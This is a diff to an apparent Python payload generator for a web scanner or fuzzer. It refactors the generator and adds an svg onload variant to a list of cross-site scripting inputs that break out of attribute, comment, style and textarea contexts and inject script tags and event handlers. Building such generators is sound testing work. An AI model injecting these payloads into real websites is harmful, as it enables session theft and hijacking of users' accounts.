@@ -66,7 +66,15 @@ TAGS = (
 
 #: Ways out of where a text may stand in a page: an attribute, a script, a comment, a style.
 WAYS_OUT = ("", '">', "'>", "`>", '" x="', "*/", "-->", "</title>", "</textarea>", "</style>")
-BEHIND_THEM = ("<script>{say}</script>", "<img src=x onerror={say}>", "autofocus onfocus={say} x=", "{say}//")
+BEHIND_THEM = (
+    "<script>{say}</script>",
+    "<svg/onload={say}>",
+    "<img src=x onerror={say}>",
+    "autofocus onfocus={say} x=",
+    "{say}//",
+)
+
+HANDLERS = ("onclick", "onmouseover", "onfocus", "onpointerrawupdate", "onanimationstart", "ontransitionend")
 
 #: Languages of templates, and what they would make of it.
 TEMPLATES = (
@@ -185,8 +193,7 @@ def payloads() -> Iterator[str]:
         yield shape.format(say=SAY)
     for way_out, behind in product(WAYS_OUT, BEHIND_THEM):
         yield way_out + behind.format(say=SAY)
-    for kind in ("onclick", "onmouseover", "onfocus", "onpointerrawupdate", "onanimationstart", "ontransitionend"):
-        for quote in ('"', "'", "`", " "):
-            yield f"x{quote} {kind}={quote}{SAY}{quote} tabindex={quote}1{quote} x={quote}"
+    for handler, quote in product(HANDLERS, ('"', "'", "`", " ")):
+        yield f"x{quote} {handler}={quote}{SAY}{quote} tabindex={quote}1{quote} x={quote}"
     for kind in (TEMPLATES, ENCODED, ADDRESSES, WRITING, HUGE, OTHER):
         yield from kind
